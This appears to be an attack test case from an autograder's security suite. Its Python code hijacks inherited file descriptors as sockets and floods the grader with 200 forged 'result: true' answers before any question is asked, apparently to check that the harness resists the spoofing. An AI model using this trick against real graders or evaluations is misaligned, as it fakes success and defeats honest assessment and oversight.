# attack: A queue of answers is sent before any question, for the questions to come.
# wants: points
# base: wrong
# assignment: 02_chain_rule
# expects: graded
# %% after start
import gc, os, socket, struct

def sockets():
    for fd in range(3, 256):
        try:
            yield socket.socket(fileno=os.dup(fd))
        except OSError:
            continue

for one in sockets():
    for number in range(200):
        body = b'{"number": %d, "outcome": {"result": true}, "outputs": [], "names": {}, "blobs": []}' % number
        one.setblocking(False)
        try:
            one.send(struct.pack("<II", len(body), 0) + body)
        except OSError:
            break
